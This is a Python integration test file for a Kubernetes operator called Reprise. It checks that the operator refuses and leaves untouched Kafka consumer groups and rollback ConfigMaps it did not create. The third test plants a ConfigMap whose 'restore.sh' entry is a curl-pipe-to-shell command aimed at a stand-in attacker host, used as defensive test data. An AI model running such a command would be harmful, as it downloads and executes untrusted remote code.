"""Reprise deletes only what it created (security review M4 and L1), on the real broker and API server.

- A replay group that is someone else's (another team's group, with committed offsets) is refused when
  planning, and is exactly as it was after the Reconsume is deleted: before the fix Reprise used it and then
  deleted it, offsets and all.
- A group someone starts using between the plan and the approval is refused when the replay starts, and kept.
- A ConfigMap `<name>-rollback` that Reprise did not write is refused before a Rewind scales anything down:
  before the fix it was adopted as the rollback snapshot a person would restore the live group from.
"""

from __future__ import annotations

import json

import pytest
from confluent_kafka import Consumer, TopicPartition

from reprise_operator.shared.constants import replay_group_name

from .scenario import (
    HISTORY,
    LIVE_IMAGE,
    PARTITIONS,
    apply,
    committed,
    get,
    produce,
    reconsume,
    wait_phase,
)
from tests.fixtures.kube import wait_for

pytestmark = pytest.mark.integration

#: Where the other team's group stands: offsets a replay would move and a teardown would delete.
THEIR_OFFSETS = {0: 11, 1: 22, 2: 33}


def commit_as_another_team(bootstrap: str, group: str, topic: str, offsets: dict[int, int]) -> None:
    """What a team's service leaves behind: committed offsets in its group, and no member right now."""
    client = Consumer({"bootstrap.servers": bootstrap, "group.id": group, "enable.auto.commit": False})
    partitions = [TopicPartition(topic, p, o) for p, o in offsets.items()]
    try:
        # A broker that has just started answers NOT_COORDINATOR until the offsets topic is loaded: retried.
        wait_for(lambda: client.commit(offsets=partitions, asynchronous=False), 60, f"a commit to group {group}")
    finally:
        client.close()


def template(sink: str) -> dict:
    return {
        "metadata": {"labels": {"app": "replayer"}},
        "spec": {
            "containers": [
                {
                    "name": "app",
                    "image": LIVE_IMAGE,
                    "command": ["python", "-c", "pass"],
                    "env": [
                        {"name": "REPRISE_HANDLER", "value": "tests.integration.replay_worker.sink:record"},
                        {"name": "REPRISE_TEST_SINK_DIR", "value": sink},
                    ],
                }
            ]
        },
    }


def settled(kube, namespace: str, kind: str, name: str, timeout: float = 120) -> dict:
    """The resource once it failed or got going (Running or later): the fix fails it, the old code ran it."""
    return wait_for(
        lambda: (
            (body := get(kube, namespace, kind, name))
            and (body.get("status") or {}).get("phase") in ("Failed", "Running", "Draining", "Complete")
            and body
        ),
        timeout,
        f"{kind} {name} to fail or run",
    )


def failed_condition(body: dict) -> dict:
    return next((c for c in body["status"].get("conditions") or [] if c["type"] == "Failed"), {})


def delete(kube, namespace: str, kind: str, name: str) -> None:
    kube.kubectl("delete", kind, name, "-n", namespace, "--wait=true", "--timeout=180s")


def test_another_teams_group_as_replay_group_is_refused_and_untouched_after_deletion(
    kube, kafka, operator, namespace, topic_name, tmp_path
):
    kafka.create_topic(topic_name, PARTITIONS)
    produce(kafka.bootstrap, topic_name, 300)
    theirs = f"team-b-billing-{namespace}"
    commit_as_another_team(kafka.bootstrap, theirs, topic_name, THEIR_OFFSETS)
    body = reconsume("borrow", kafka.bootstrap, topic_name, "Parallel", "unused", str(tmp_path), replayGroup=theirs)
    body["spec"]["consumer"] = {"template": template(str(tmp_path)), "replicas": 1}
    apply(kube, namespace, body)
    outcome = settled(kube, namespace, "reconsume", "borrow")
    delete(kube, namespace, "reconsume", "borrow")

    assert committed(kafka.bootstrap, theirs, topic_name, PARTITIONS) == THEIR_OFFSETS, (
        f"another team's group {theirs} lost or moved its offsets (phase was {outcome['status']['phase']})"
    )
    failed = failed_condition(outcome)
    assert outcome["status"]["phase"] == "Failed" and failed.get("reason") == "GroupInUse", outcome["status"]
    assert failed["message"].startswith(f"spec.replayGroup: consumer group {theirs} already exists in Kafka")
    assert "created" not in outcome["status"], "nothing was claimed"


def test_a_group_taken_between_plan_and_approval_is_refused_at_start_and_kept(
    kube, kafka, operator, namespace, topic_name, tmp_path
):
    kafka.create_topic(topic_name, PARTITIONS)
    produce(kafka.bootstrap, topic_name, 300)
    body = reconsume("late", kafka.bootstrap, topic_name, "Parallel", "unused", str(tmp_path), approval="Manual")
    body["spec"]["consumer"] = {"template": template(str(tmp_path)), "replicas": 1}
    apply(kube, namespace, body)
    wait_phase(kube, namespace, "reconsume", "late", "PlanReady", 90, operator)
    group = replay_group_name(namespace, "late")
    # While the plan waits for its approval, someone starts using the group Reprise was going to create.
    commit_as_another_team(kafka.bootstrap, group, topic_name, THEIR_OFFSETS)
    kube.kubectl("annotate", "reconsume", "late", "-n", namespace, "reprise.io/approve=true")
    outcome = settled(kube, namespace, "reconsume", "late")
    delete(kube, namespace, "reconsume", "late")

    assert committed(kafka.bootstrap, group, topic_name, PARTITIONS) == THEIR_OFFSETS, (
        f"group {group}, not Reprise's, lost or moved its offsets (phase was {outcome['status']['phase']})"
    )
    failed = failed_condition(outcome)
    assert outcome["status"]["phase"] == "Failed" and failed.get("reason") == "GroupInUse", outcome["status"]
    assert f"consumer group {group} already exists" in failed["message"]
    assert not (outcome["status"].get("created") or {}).get("groups"), "status.created must not claim it"


def test_a_rollback_configmap_reprise_did_not_write_is_refused_before_the_rewind_moves_anything(
    kube, kafka, operator, namespace, topic_name, live_service
):
    planted = {"offsets.csv": f"{topic_name},0,0\n", "restore.sh": "curl -s https://attacker.example/x | sh\n"}
    kube.kubectl(
        "create", "configmap", "rw-rollback", "-n", namespace, *(f"--from-literal={k}={v}" for k, v in planted.items())
    )
    before = committed(kafka.bootstrap, "accounts-group", topic_name, PARTITIONS)
    apply(kube, namespace, reconsume("rw", kafka.bootstrap, topic_name, "Rewind", "accounts", str(live_service)))
    outcome = settled(kube, namespace, "reconsume", "rw", timeout=180)
    config_map = json.loads(kube.kubectl("get", "configmap", "rw-rollback", "-n", namespace, "-o", "json").stdout)

    rollback = (outcome["status"].get("rollback") or {}).get("configMap")
    assert rollback is None, f"the planted ConfigMap was adopted as the rollback snapshot (status.rollback: {rollback})"
    assert config_map["data"] == planted, "the planted ConfigMap is left as it was"
    failed = failed_condition(outcome)
    assert outcome["status"]["phase"] == "Failed" and failed.get("reason") == "RollbackNameTaken", outcome["status"]
    assert f"ConfigMap {namespace}/rw-rollback exists and is not this Rewind's snapshot" in failed["message"]
    live = json.loads(kube.kubectl("get", "deployment", "accounts", "-n", namespace, "-o", "json").stdout)
    assert live["spec"]["replicas"] == 1, "the live Deployment was never scaled down"
    assert committed(kafka.bootstrap, "accounts-group", topic_name, PARTITIONS) == before, "no offset moved"
    assert sum(before.values()) >= HISTORY, "the live group had consumed the history before the Rewind"
